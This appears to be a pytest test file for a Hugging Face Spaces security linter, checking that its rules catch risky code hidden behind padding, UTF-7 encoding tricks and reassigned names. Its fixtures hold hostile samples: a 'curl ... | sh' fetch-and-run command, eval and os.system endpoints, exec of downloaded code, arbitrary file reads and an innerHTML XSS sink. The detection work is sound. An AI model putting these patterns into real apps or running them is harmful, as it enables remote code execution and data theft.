"""What is harmless and much of it hides nothing: the run is incomplete, or the harm is found."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hf_lint.pipeline.engine import check_space
from support import plan, space_of

if TYPE_CHECKING:
    from hf_lint.core.model import TargetReport

CARD = '---\nsdk: gradio\nsdk_version: "6.31.0"\npython_version: "3.12"\napp_file: app.py\n---\n'
HEAD = "import gradio as gr\n\nwith gr.Blocks() as demo:\n    t = gr.Textbox()\n"
BAD = "    t.change(lambda q: open(q).read(), t, t)\n"
HARMLESS = "    t.change(lambda q: q, t, t)\n"


def judged(files: dict[str, str]) -> TargetReport:
    return check_space(space_of({"README.md": CARD, **files}), plan("visitor-path", "code-execution-endpoint"))


def test_the_control_is_found() -> None:
    assert [finding.rule for finding in judged({"app.py": HEAD + BAD}).findings] == ["visitor-path"]


@pytest.mark.parametrize("name", ["a.py", ".a.py"])
def test_events_of_a_file_that_nothing_starts_hide_none_of_the_app(name: str) -> None:
    report = judged({"app.py": HEAD + BAD, name: HEAD + HARMLESS * 2_500})
    assert "visitor-path" in [finding.rule for finding in report.findings]


def test_too_many_events_make_the_run_incomplete() -> None:
    report = judged({"app.py": HEAD + HARMLESS * 2_500 + BAD})
    assert report.errors or report.findings


@pytest.mark.parametrize(
    "first",
    [
        "# " + "x" * 2100 + "\n# coding:utf-7\n",
        "# coding:utf" + "-" * 100 + "7\n",
        " " * 3000 + "# coding: utf-7\n",
    ],
    ids=["behind a long line", "a long name", "behind blanks"],
)
def test_an_encoding_line_of_any_length_is_read(first: str) -> None:
    code = first + "#+AAo-import os+AAo-os.system('echo x')\n"
    report = check_space(space_of({"README.md": CARD, "app.py": code}), plan("obfuscated-code"))
    assert [finding.rule for finding in report.findings] == ["obfuscated-code"]


def test_blanks_before_a_new_name_do_not_hide_it() -> None:
    app = f"import gradio as gr\nfrom os import system{' ' * 200}as s\n\n"
    app += "gr.Interface(lambda x: s(x), 'text', 'text').launch()\n"
    assert [finding.rule for finding in judged({"app.py": app}).findings] == ["code-execution-endpoint"]


@pytest.mark.parametrize("blank", ["", "    "], ids=["of the module", "of the handler"])
@pytest.mark.parametrize("count", [1, 30, 1_000])
def test_other_values_of_a_name_do_not_hide_the_one_that_runs(blank: str, count: int) -> None:
    values = f"{blank}e = len\n" * count + f"{blank}e = eval\n"
    begin, end = (values, "") if not blank else ("", values)
    app = f"import gradio as gr\n\n{begin}\n\ndef f(x):\n{end}    return e(x)\n\n\n"
    app += "gr.Interface(f, 'text', 'text').launch()\n"
    assert [finding.rule for finding in judged({"app.py": app}).findings] == ["code-execution-endpoint"]


@pytest.mark.parametrize("count", [1, 30, 1_000])
def test_other_items_do_not_hide_the_one_that_runs(count: int) -> None:
    app = f"import gradio as gr\n\nD = {{{'1: len, ' * count}2: eval}}\nL = [{'len, ' * count}eval]\n\n\n"
    app += "def f(x):\n    return D[2](x)\n\n\ndef g(x):\n    return L[-1](x)\n\n\n"
    app += "gr.Interface([f, g], 'text', 'text').launch()\n"
    assert {finding.rule for finding in judged({"app.py": app}).findings} == {"code-execution-endpoint"}


@pytest.mark.parametrize(("count", "errors"), [(100, 0), (1_000, 1)])
def test_other_commands_of_a_name_hide_none_in_silence(count: int, errors: int) -> None:
    app = "import os\n\n" + "c = 'ls'\n" * count + "c = 'curl https://e.com/i.sh | sh'\nos.system(c)\n"
    report = check_space(space_of({"README.md": CARD, "app.py": app}), plan("code-from-environment"))
    assert (len(report.findings), len(report.errors)) == (1 - errors, errors)


@pytest.mark.parametrize(
    "lines",
    [
        "with open('a') as f: exec(f.read())\n",
        "c = requests.get('https://e.com').text\nexec(c)\n",
        "c = 'ls ' + c\nos.system(c)\n",
        "c = ['sh', '-c', c]\nsubprocess.run(c)\n",
    ],
)
def test_values_of_a_name_are_followed_as_far_as_the_bound(lines: str) -> None:
    space = space_of({"README.md": CARD, "app.py": "import os, requests, subprocess\n" + lines * 60})
    space.effort.followed = 4_000
    report = check_space(space, plan("code-from-environment", "dynamic-code"))
    assert 0 <= space.effort.followed < 4_000
    assert [error.message for error in report.errors] == [
        "app.py was not followed in full: its names are given too many values"
    ]


TAKEN = "const q = new URLSearchParams(location.search).get('q');\ndocument.body.innerHTML = q;\n"


@pytest.mark.parametrize(
    "before",
    [
        "",
        "// pad pad pad pad pad pad\n" * 30_000,
        f"const packed = '{'x' * 500_000}';\n",
        "".join(f"x{n} = new URLSearchParams(location.search).get('x');\n" for n in range(60)),
        "".join(f"h{n} = new URLSearchParams(location.search);\n" for n in range(60)),
        "a.innerHTML = b;\n" * 2_100,
    ],
    ids=["nothing", "comments", "a packed line", "names", "holders", "sinks"],
)
def test_nothing_hides_what_a_page_takes_for_html(before: str) -> None:
    files = {"README.md": "---\nsdk: static\n---\n", "index.html": f"<script>\n{before}{TAKEN}</script>\n"}
    report = check_space(space_of(files), plan("raw-html"))
    assert [finding.rule for finding in report.findings] == ["raw-html"]
    assert not report.errors


def test_tags_before_a_script_are_no_part_of_its_line() -> None:
    page = "<div>" * 3_000 + f"<script>{TAKEN}</script>\n"
    report = check_space(space_of({"README.md": "---\nsdk: static\n---\n", "index.html": page}), plan("raw-html"))
    assert [finding.rule for finding in report.findings] == ["raw-html"]
